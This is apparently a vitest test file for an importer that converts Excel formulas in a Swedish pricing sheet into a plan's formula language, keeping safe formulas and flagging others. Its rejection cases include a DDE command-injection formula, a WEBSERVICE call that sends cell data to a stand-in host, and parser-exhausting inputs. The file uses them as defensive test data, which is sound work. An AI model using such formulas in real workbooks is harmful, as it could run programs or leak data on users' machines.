import ExcelJS from 'exceljs'
import { describe, expect, test } from 'vitest'
import { emptyPlan } from '../../src/plan/plan.ts'
import { formulasIn } from '../../src/plan/typed-formulas.ts'
import { appliedWithFollowers } from '../../src/workbook/own/settle.ts'
import { withSheets } from './calc-files.ts'
import { proposedBy } from './tables-in-file.ts'

type Cell = ExcelJS.CellValue
const f = (formula: string, result: number): Cell => ({ formula, result })
const headings = ['Produkt', 'Pris', 'Rörlig kostnad', 'Timmar', 'Antal per år']

/** What a table of somebody's own becomes: the formulas of its rows with their places in the stead of ids, their numbers, and what is told of cells. */
async function taken(
  rows: readonly (readonly Cell[])[],
  more: (sheet: ExcelJS.Worksheet) => void = () => {},
  change: (xml: string) => string = (xml) => xml,
) {
  const book = new ExcelJS.Workbook()
  const sheet = book.addWorksheet('Priser')
  sheet.addRows([headings, ...rows].map((row) => [...row]))
  more(sheet)
  const bytes = withSheets(new Uint8Array(await book.xlsx.writeBuffer()), change)
  const plan = emptyPlan(2026)
  const { edit, lines } = await proposedBy(bytes, { table: 'offerings' }, plan)
  const { offerings } = edit ? appliedWithFollowers(plan, edit) : plan
  const placed = (text: string) =>
    offerings.reduce((written, { id }, at) => written.replaceAll(`{${id}.`, `{${at}.`), text)
  return {
    formulas: offerings.map((row) => formulasIn(placed(row.formulas))),
    costs: offerings.map(({ variableCost }) => variableCost),
    told: lines.flatMap(({ troubles }) => troubles.map(({ cell, why }) => `${cell} ${why}`)),
  }
}

const row = (cost: Cell, name = 'Kaffe', price = 100) => [name, price, cost, 0.5, 10]

describe('a formula of a table of somebody’s own', () => {
  test.each([
    ['B2*0.4', 40, '={price}*0.4'],
    ['$B2*40%', 40, '={price}*40%'],
    ['Priser!B2*1.03', 103, '={price}*1.03'],
    ["'Priser'!$B$2-60", 40, '={price}-60'],
    ['-B2^2/-100', 100, undefined],
    ['IF(B2>=100,B2/4,1)', 25, '=IF({price}>=100,{price}/4,1)'],
    ['SUM(B2,E2)+MIN(B2,E2)', 120, '=SUM({price},{volumeYear})+MIN({price},{volumeYear})'],
    ['ROUND(B2/3,2)', 33.33, '=ROUND({price}/3,2)'],
    [' ROUNDUP( B2 / 3 , 0 ) ', 34, '=ROUNDUP({price}/3,0)'],
    ['AVERAGE(B2,E2)', 55, '=AVERAGE({price},{volumeYear})'],
    ['B2/3', 33.333333333333336, '={price}/3'],
    // no bounds of ours, and no 0 that we have put in
    ['MIN(30,MAX(0,ROUND((B2*0.4),0)))', 30, '=MIN(30,MAX(0,ROUND({price}*0.4,0)))'],
    ['MAX(B2-60,(0))', 40, '=MAX({price}-60,0)'],
  ])('is kept when the language knows it: %s', async (formula, result, stored) => {
    const { formulas, told } = await taken([row(f(formula, result))])
    expect(formulas).toEqual([stored === undefined ? {} : { variableCost: stored }])
    expect(told).toEqual(stored === undefined ? ['C2 import.formula'] : [])
  })

  test.each([
    ['a constant beside the table', 'B2*$H$1', 3],
    ['a range', 'SUM(B2:B3)', 100],
    ['another sheet', 'Andra!B2', 3],
    ['another file', '[1]Priser!B2*2', 200],
    ['a text', 'IF(A2="Kaffe",B2,1)', 100],
    ['a column of words', 'A2', 3],
    ['a heading', 'B1+B2', 100],
    ['a function that reaches out', 'WEBSERVICE("http://x.example/"&B2)', 3],
    ['a link', 'HYPERLINK("http://x.example",B2)', 3],
    ['a program', "cmd|' /C calc'!A0", 3],
    ['words for another language', 'SUMMA(B2;E2)', 3],
    ['another number than it gives', 'B2*0.4', 41],
    ['itself', 'C2+1', 3],
    ['a name', 'Tal_1*B2', 3],
    ['an intersection', 'B2 B2', 100],
    ['a number too long', `B2*1.${'1'.repeat(30)}`, 111],
    ['parentheses without end', `${'('.repeat(10_000)}B2${')'.repeat(10_000)}`, 100],
    ['64 kB', `B2${'+B2'.repeat(21_000)}`, 100],
    ['what a regular expression may choke on', `B2${"'".repeat(1400)}`, 100],
    ['no cell', 'A1048577+B2', 100],
    ['what rows keep names by', '{price}*0.4', 40],
    ['another number within bounds of ours', 'MIN(9999999,MAX(0,ROUND((B2*0.4),5)))', 41],
  ])('comes as its number, told, when it calls %s', async (_, formula, result) => {
    const { formulas, costs, told } = await taken([row(f(formula, result))])
    expect(formulas).toEqual([{}])
    expect(costs).toEqual([result])
    expect(told).toEqual(['C2 import.formula'])
  })

  test('calls other rows that are taken, and moves along where it is shared', async () => {
    const rows = [row(f('B2*0.4', 40)), row(null, 'Te', 50), row(null, 'Kaka', 30)]
    const { formulas } = await taken(rows, (sheet) => {
      sheet.getCell('C3').value = { formula: 'B3*0.4+$B$2', result: 120, shareType: 'shared', ref: 'C3:C4' } as never
      sheet.getCell('C4').value = { sharedFormula: 'C3', result: 112 } as never
    })
    expect(formulas).toEqual([
      { variableCost: '={price}*0.4' },
      { variableCost: '={price}*0.4+{0.price}' },
      { variableCost: '={price}*0.4+{0.price}' },
    ])
  })

  test('comes as its number where it goes in a circle, over the rows too, or calls a row that is not taken', async () => {
    const { formulas, told } = await taken([
      row(f('C3', 5)),
      row(f('C2', 5), 'Te'),
      row(f('C5+1', 4), 'Kaka'),
      ['', 3, 3, 3, 3],
      row(f('B2', 100), 'Saft'),
    ])
    expect(formulas).toEqual([{}, {}, {}, { variableCost: '={0.price}' }])
    expect(told).toEqual(expect.arrayContaining(['C2 import.formula', 'C3 import.formula', 'C4 import.formula']))
  })

  test.each(['t="array" ref="C2"', 't="dataTable" ref="C2" r1="B2"', 't="shared" si="7"'])(
    'comes as its number, told, where it is of many cells: %s',
    async (kind) => {
      const { formulas, costs, told } = await taken([row(40)], undefined, (xml) =>
        xml.replace('<c r="C2"><v>', `<c r="C2"><f ${kind}>${kind.includes('array') ? 'B2*0.4' : ''}</f><v>`),
      )
      expect([formulas, costs, told]).toEqual([[{}], [40], ['C2 import.formula']])
    },
  )

  test.each([
    ['R\u00f6rlig kostnad, tkr', 'B2/1000', 0.1, 100],
    ['R\u00f6rlig kostnad per timme', 'B2*0.4', 40, 20],
  ])('comes as what its column\u2019s heading makes of its number, told: %s', async (heading, formula, there, cost) => {
    const { formulas, costs, told } = await taken([row(f(formula, there))], (sheet) => {
      sheet.getCell('C1').value = heading
    })
    expect([formulas, costs, told]).toEqual([[{}], [cost], ['C2 import.formula']])
  })
})
